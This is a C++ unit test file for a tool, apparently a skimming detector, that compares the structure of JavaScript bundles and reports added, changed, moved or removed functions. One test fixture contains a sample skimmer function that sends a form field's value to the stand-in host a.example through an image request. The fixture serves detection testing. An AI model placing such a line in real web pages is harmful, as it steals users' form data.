#include "agent/script/judge/script_shape.h"

#include <string>

#include "absl/strings/str_cat.h"
#include "agent/script/judge/cpu_time.h"
#include "gtest/gtest.h"

namespace skimwatch::script {
namespace {

ScriptShape Shape(const std::string& text) { return ShapeOf(*SyntaxTree::Parse(text, {})); }

v1::ScriptChange Compare(const std::string& previous, const std::string& current) {
  v1::ScriptChange change;
  CompareShapes(Shape(previous), previous, Shape(current), current, change);
  return change;
}

TEST(ScriptShape, IsTheSameForWhatMinifiersChoose) {
  const struct {
    const char* plain;
    const char* minified;
  } pairs[] = {
      {"function total(price, count) {\n  // sum\n  return price * count;\n}",
       "function total(a,b){return a*b}"},
      {"var enabled = true, other = false, none = undefined;", "var a=!0,b=!1,c=void 0;"},
      {"if (ready) { start(); }", "ready&&start();"},
      {"if (!ready) start();", "ready||start();"},
      {"if (ready) { start(); } else { stop(); }", "ready?start():stop();"},
      {"first(); second(); third();", "first(),second(),third();"},
      {"call(\"text\", 'it\\'s', 0x10, 1000);", "call('text',\"it's\",16,1e3);"},
      {"object['name'].other;", "object.name.other;"},
      {"list.map(function (item) { return item.id; });", "list.map(t=>t.id);"},
      {"const options = { name: value, 'kind': 1 };", "var o={name:value,kind:1};"},
      {"function f(name) { return { name }; }", "function f(a){return{name:a}}"},
      {"while (more()) { next(); }", "while(more())next();"},
      {"let a1 = 1; let b1 = 2;", "var x=1,y=2;"},
      {"(a.b)(c);", "a.b(c);"},
      {"say(`text`);", "say('text');"},
  };
  for (const auto& pair : pairs) {
    EXPECT_EQ(Shape(pair.plain).hash, Shape(pair.minified).hash) << pair.plain;
  }
}

TEST(ScriptShape, DiffersForWhatTheCodeDoes) {
  const struct {
    const char* a;
    const char* b;
  } pairs[] = {
      {"send('https://a.example')", "send('https://b.example')"},
      {"x.open()", "x.close()"},
      {"f(1)", "f(2)"},
      {"if (ready) start()", "if (!ready) start()"},
      {"if (ready) start(); else stop()", "if (ready) stop(); else start()"},
      {"fetch(url)", "alert(url)"},
      {"a + b", "a - b"},
      {"f(/a/)", "f(/b/)"},
      {"f(`a${b}`)", "f(`c${b}`)"},
      {"start(); stop()", "stop(); start()"},
      {"f([1, 2])", "f([1], 2)"},
      {"({ a: 1 })", "({ b: 1 })"},
  };
  for (const auto& pair : pairs) {
    EXPECT_NE(Shape(pair.a).hash, Shape(pair.b).hash) << pair.a << " and " << pair.b;
  }
}

constexpr char kLibrary[] =
    "function first(alpha) { return alpha.one(1) + alpha.two(2) + alpha.three(3); }\n"
    "function second(beta) { if (beta) { beta.call('x', beta.length); } return beta; }\n"
    "var third = function (gamma) { for (var i = 0; i < gamma; i++) { work(i, gamma); } };\n";

TEST(CompareShapes, SaysThatABundleWasRebuilt) {
  const v1::ScriptChange change =
      Compare(kLibrary,
              "function first(a){return a.one(1)+a.two(2)+a.three(3)}function second(a){return "
              "a&&a.call(\"x\",a.length),a}var third=function(a){for(var b=0;b<a;b++)work(b,a)};");
  EXPECT_EQ(change.functions_added() + change.functions_removed() + change.functions_moved(), 0U);
  EXPECT_GE(change.likeness().functions_percent(), 75U);
}

TEST(CompareShapes, NamesTheFunctionThatCame) {
  const v1::ScriptChange change = Compare(
      kLibrary,
      std::string(kLibrary) +
          "function grab(field) { new Image().src = 'https://a.example/?' + field.value; }");
  EXPECT_EQ(change.functions_added(), 1U);
  EXPECT_EQ(change.functions_changed(), 0U);
  EXPECT_FALSE(change.likeness().same_structure());
  ASSERT_EQ(change.functions_size(), 1);
  EXPECT_EQ(change.functions(0).change(), v1::FunctionChange::CHANGE_ADDED);
  EXPECT_EQ(change.functions(0).name(), "grab");
  EXPECT_NE(change.functions(0).excerpt().find("a.example"), std::string::npos);
}

TEST(CompareShapes, ShowsThePartOfAFunctionThatChanged) {
  std::string current = kLibrary;
  current.replace(current.find("beta.call("), 10, "beta.apply(");
  const v1::ScriptChange change = Compare(kLibrary, current);
  EXPECT_EQ(change.functions_changed(), 1U);
  EXPECT_EQ(change.functions_added() + change.functions_removed(), 0U);
  ASSERT_EQ(change.functions_size(), 1);
  EXPECT_EQ(change.functions(0).name(), "second");
  EXPECT_NE(change.functions(0).excerpt().find("apply"), std::string::npos);
  EXPECT_NE(change.functions(0).previous_excerpt().find("call"), std::string::npos);
}

TEST(CompareShapes, TellsAMoveFromAChange) {
  const std::string text = kLibrary;
  const size_t second = text.find("function second");
  const size_t third = text.find("var third");
  const v1::ScriptChange change = Compare(
      text, text.substr(second, third - second) + text.substr(0, second) + text.substr(third));
  EXPECT_EQ(change.functions_moved(), 1U);
  EXPECT_EQ(change.functions_added() + change.functions_removed() + change.functions_changed(), 0U);
}

TEST(CompareShapes, CountsWhatWent) {
  const std::string text = kLibrary;
  const v1::ScriptChange change = Compare(
      text, text.substr(0, text.find("function second")) + text.substr(text.find("var third")));
  EXPECT_EQ(change.functions_removed(), 1U);
}

TEST(CompareShapes, TakesLinearTimeOnFunctionsInsideOfFunctions) {
  const auto nested = [](const std::string& number) {
    constexpr int kLevels = 100'000;
    std::string script;
    for (int i = 0; i < kLevels; ++i) absl::StrAppend(&script, "(function(){", number, ";");
    for (int i = 0; i < kLevels; ++i) script += "})";
    return script;
  };
  const std::string before = nested("1");
  const std::string after = nested("2");
  // To parse them takes long where the machine has other things to do, and is not what is timed.
  const SyntaxTree::Options options{.time_max = absl::Minutes(10)};
  const ScriptShape before_shape = ShapeOf(*SyntaxTree::Parse(before, options));
  const ScriptShape after_shape = ShapeOf(*SyntaxTree::Parse(after, options));
  v1::ScriptChange change;
  const absl::Time start = ThreadCpuTime();
  CompareShapes(before_shape, before, after_shape, after, change);
  EXPECT_LT(ThreadCpuTime() - start, absl::Seconds(2));
  EXPECT_GE(change.functions_changed(), 100'000U);
}

}  // namespace
}  // namespace skimwatch::script
